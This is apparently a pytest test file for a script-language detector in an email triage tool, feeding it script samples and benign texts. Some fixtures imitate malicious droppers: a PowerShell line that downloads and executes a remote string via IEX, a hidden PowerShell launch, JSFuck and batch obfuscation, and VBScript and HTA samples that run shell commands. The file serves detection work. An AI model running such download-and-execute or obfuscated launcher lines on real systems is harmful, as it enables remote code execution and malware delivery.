"""Script languages are told by content, and other texts are none."""

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from emotriage.formats.script import HEAD, dialect

JAVASCRIPT = 'var shell = WScript.CreateObject("WScript.Shell");\nfunction go(a) {\n  return a + 1;\n}\n'
VBSCRIPT = 'Option Explicit\nDim shell\nSet shell = CreateObject("WScript.Shell")\nIf a = 1 Then\n  b = 2\nEnd If\n'
BATCH = "@echo off\r\nsetlocal\r\nif not exist %TEMP% goto end\r\n:end\r\nexit /b 0\r\n"
POWERSHELL = "param([string]$Name)\n$items = Get-ChildItem $Name\nWrite-Host $items.Count\n"

SCRIPTS = [
    ("javascript", JAVASCRIPT),
    ("javascript", "/*@cc_on\nvar a = 1;\n@*/\n"),
    ("javascript", "var a = ['q','w','e'];"),
    ("javascript", "(()=>{var a=1;return[a].map((b)=>{return b*2})})();"),
    ("javascript", 'import x from "./x.js";\nexport default x;\n'),
    ("javascript", "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]" * 20),
    ("vbscript", VBSCRIPT),
    ("vbscript", 'x = Chr(65) & Chr(66) & Chr(67)\nExecute(x)\nMsgBox "done"\n'),
    ("batch", BATCH),
    ("batch", "powershell -nop -w hidden -c emotriage-inert"),
    ("batch", "@if (@X)==(@Y) @end /* JScript comment\n@echo off\ncscript //E:JScript %~f0\nexit /b\n@end */\n"),
    ("batch", "set abc=qwertyuiop\r\n%abc:~3,1%%abc:~2,1%%abc:~5,1% x\r\n"),
    ("powershell", POWERSHELL),
    ("powershell", "IEX (New-Object Net.WebClient).DownloadString('http://a.invalid/')"),
    ("wsf", '<job><script language="VBScript">MsgBox 1</script></job>'),
    ("wsf", '<?xml version="1.0"?><scriptlet><script language="JScript">var a;</script></scriptlet>'),
    ("hta", '<html><hta:application id="a"/><script>self.close();</script></html>'),
    ("hta", '<html><script language="VBScript">CreateObject("WScript.Shell").Run "x"</script></html>'),
    ("encoded", "#@~^EAAAAA==\x7fkT4K6,Es\x16x6r\x02\x03AAA==^#~@"),
    ("python", "import os\n\ndef main(a):\n    print(a)\n"),
    ("python", "#!/usr/bin/env python3\nprint(1)\n"),
    ("shell", '#!/bin/sh\necho "$1"\n'),
    ("shell", "set -e\nif [ -f x ]; then\n  echo y\nfi\n"),
    ("php", "<?php echo 1;"),
]

TEXTS = [
    "",
    "   \r\n\r\n",
    "Dear all,\n\nplease find attached the minutes. If you have questions then call me.\nNext week we set up.\n",
    "Set the table.\nEnd of story\nNext\nFor each of you\nThen go to bed. Execute it.\nCall me, copy that, start.\n",
    "name,amount,date\nA,1,2020-01-01\nB,2,2020-01-02\n",
    "2020-01-01 10:00:00 INFO start\n2020-01-01 10:00:01 ERROR cannot copy file\n",
    json.dumps({"function": "function(a) { return eval(a); }", "var x = 1;": [1, 2]}, indent=1),
    json.dumps([{"a": "var a = 1; function f() { return 1; }"}]),
    "# Title\n\n## Use\n\n```js\nvar a = 1;\nfunction f(x) { return x; }\n```\n\nText.\n",
    "#include <stdio.h>\n#define A 1\nint main(void) {\n  for (int i = 0; i < 3; i++) { }\n  return 0;\n}\n",
    "From: a@b.invalid\nTo: c@d.invalid\nSubject: function f(x) { return x; }\n\nvar a = 1;\n",
    "body { color: red; }\n.a > .b { margin: 0 }\n",
    "<html><body><p>Hello</p><script>var a = 1; function f() { return a; }</script></body></html>",
    "<?xml version='1.0'?><a><b/></a>",
    "[section]\nkey=value\nset=1\n",
    "CREATE TABLE a (b int);\nIF x THEN\n  SELECT 1;\nEND IF;\n",
    "本日の会議資料をお送りします。ご確認ください。\n",
]


@pytest.mark.parametrize(("language", "text"), SCRIPTS)
def test_scripts(language, text):
    assert dialect(text.encode()) == language


@pytest.mark.parametrize(("language", "text"), SCRIPTS)
@pytest.mark.parametrize("codec", ["utf-16", "utf-16-le", "utf-8-sig"])
def test_encoding_does_not_hide_a_script(language, text, codec):
    if len(text) > 20:
        assert dialect(text.encode(codec)) == language


@pytest.mark.parametrize(("language", "text"), SCRIPTS[:1] + SCRIPTS[6:7] + SCRIPTS[8:9] + SCRIPTS[12:13])
def test_case_and_indentation_do_not_matter(language, text):
    if language != "javascript":
        assert dialect(text.upper().encode()) == language
    assert dialect("".join(f"\t  {line}\r\n\r\n" for line in text.splitlines()).encode()) == language


@pytest.mark.parametrize("text", TEXTS)
def test_other_texts_are_no_scripts(text):
    assert dialect(text.encode()) is None


def test_binary_is_no_script():
    assert dialect(bytes(range(256)) * 8) is None
    assert dialect(b"MZ" + bytes(600) + JAVASCRIPT.encode()) is None


@given(st.binary(max_size=600))
def test_any_bytes_have_an_answer(data):
    assert dialect(data) == dialect(data)


def test_only_the_head_counts():
    filler = b"word " * HEAD
    assert dialect(filler + JAVASCRIPT.encode()) is None
    assert dialect(JAVASCRIPT.encode() + filler) == "javascript"


@pytest.mark.parametrize(
    "unit", [" ", "\n", "\t\n", "function(", "var ", "a,", "(", "%", "if ", "$(", '["', "set ", "%%a in "]
)
def test_repetition_is_no_trap(unit):
    dialect((unit * HEAD).encode())
    dialect((JAVASCRIPT + unit * HEAD).encode())
